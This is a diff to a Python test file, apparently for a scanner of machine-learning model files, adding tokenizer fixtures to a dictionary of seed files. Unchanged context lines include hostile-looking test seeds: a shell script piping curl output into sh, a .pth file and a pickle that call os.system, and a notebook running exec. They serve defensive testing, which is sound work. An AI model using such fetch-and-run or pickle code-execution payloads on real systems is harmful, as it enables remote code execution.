@@ -24,6 +24,7 @@ from tests.builders.opcodes import call, pickled
 from tests.builders.safetensors import model_bytes
 from tests.builders.schemas import node, schema, settings
 from tests.builders.tars import Item, tar_bytes
+from tests.builders.tokenizers import sentencepiece, tokenizer_json
 from tests.builders.torches import distributed, torch_legacy, torch_tar, torch_zip
 from tests.builders.zips import zip_bytes
 
@@ -58,6 +59,8 @@ SEEDS: dict[str, bytes] = {
     "start.pth": b"import os; os.system('true')\n",
     "run.sh": b"#!/bin/sh\ncurl -s https://example.org | sh\n",
     "train.ipynb": b'{"cells": [{"cell_type": "code", "source": ["import os\\n", "exec(x)"]}], "nbformat": 4}',
+    "tokenizer.json": tokenizer_json(),
+    "tokenizer.model": sentencepiece(),
     "model.safetensors.index.json": b'{"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}',
     "model.safetensors": model_bytes(),
     "model.pkl": pickled(call("posix", "system", "true")),
